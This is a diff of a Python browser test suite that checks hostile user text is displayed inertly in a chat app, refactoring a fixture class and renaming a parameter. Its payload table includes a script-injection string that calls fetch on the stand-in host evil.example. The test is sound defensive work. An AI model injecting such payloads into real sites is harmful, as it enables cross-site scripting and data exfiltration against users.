@@ -1,7 +1,6 @@
 """Hostile text is inert on every page: it is seen as it is, asks no other host for anything, and runs nothing."""
 
 from collections.abc import Iterator
-from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from urllib.parse import quote, urlsplit
 
@@ -13,8 +12,9 @@ from core.desk import Desk, Tx, people
 from core.model import SYSTEM, SYSTEM_USER_ID, Caller, Category, Role, User, ValueMode
 from core.rules import DESCRIPTION_LENGTH, Incoming
 from core.ui.escape import printable
+from tests.browser.place import Place
 from tests.browser.test_story import by_key, only_conclude, settled
-from tests.server import Server, serving
+from tests.server import serving
 
 KINDS = {
     "script": '<script>window.hacked=1;fetch("http://evil.example/s")</script>',
@@ -49,19 +49,6 @@ LONG = "a" * 100_000
 RETIRED = (f"R {WORST}", KINDS["right to left"])
 NULL = "nulo \0 aqui"
 assert len(WORST) <= DESCRIPTION_LENGTH
-
-
-@dataclass
-class Place:
-    """A server with hostile text wherever people write."""
-
-    server: Server
-    people: dict[str, User] = field(default_factory=dict)
-    opened: dict[str, object] = field(default_factory=dict)
-
-    def address(self, who: str, path: str = "", opened: str | None = None) -> str:
-        conversation = f"&c={self.opened[opened]}" if opened else ""
-        return f"{self.server.url}/{path}?as={self.people[who].id}{conversation}"
 
 
 @pytest.fixture(scope="module")
@@ -197,7 +184,7 @@ def test_in_the_list_and_the_chat(page: Page, place: Place) -> None:
 
 
 def test_with_a_manager(page: Page, place: Place) -> None:
-    page.goto(place.address("marta", opened="worst"))
+    page.goto(place.address("marta", conversation="worst"))
     page.get_by_text("Escrever como o contato").click()
     assert shown(page.get_by_text("Como <img")) == f"Como {WORST}"
 
@@ -226,7 +213,7 @@ def test_with_a_manager(page: Page, place: Place) -> None:
     expect(dialog.get_by_role("option")).to_have_count(len(KINDS) + 1)
     assert set(dialog.locator(".text").all_text_contents()) == {WORST, *each()}
     other = page.context.new_page()
-    other.goto(place.address("worst", opened="worst"))
+    other.goto(place.address("worst", conversation="worst"))
     by_key(other, "conclude").click()
     theirs = other.get_by_role("dialog")
     theirs.get_by_role("combobox").fill(WORST)
@@ -314,7 +301,7 @@ def test_in_the_search_and_the_address(page: Page, place: Place) -> None:
 
 def test_what_hides_or_reorders_is_replaced_in_boxes_too(page: Page, place: Place) -> None:
     found = []
-    page.goto(place.address("marta", opened="nameless"))
+    page.goto(place.address("marta", conversation="nameless"))
     for open_, label in (("", "Você é"), ("Ordenar e filtrar", "Atendente"), ("Atribuir", "Atribuir a")):
         if open_:
             page.get_by_role("button", name=open_).click()
